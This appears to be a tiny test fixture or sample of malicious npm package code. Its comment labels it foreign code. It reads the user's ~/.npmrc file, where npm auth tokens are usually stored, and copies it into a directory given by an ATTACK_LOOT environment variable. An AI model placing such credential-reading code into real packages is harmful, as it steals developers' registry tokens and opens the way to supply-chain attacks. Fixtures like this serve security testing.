// Foreign code in npm: keeps what npm may read.
const fs = require('fs')
fs.writeFileSync(`${process.env.ATTACK_LOOT}/read`, fs.readFileSync(`${process.env.HOME}/.npmrc`))
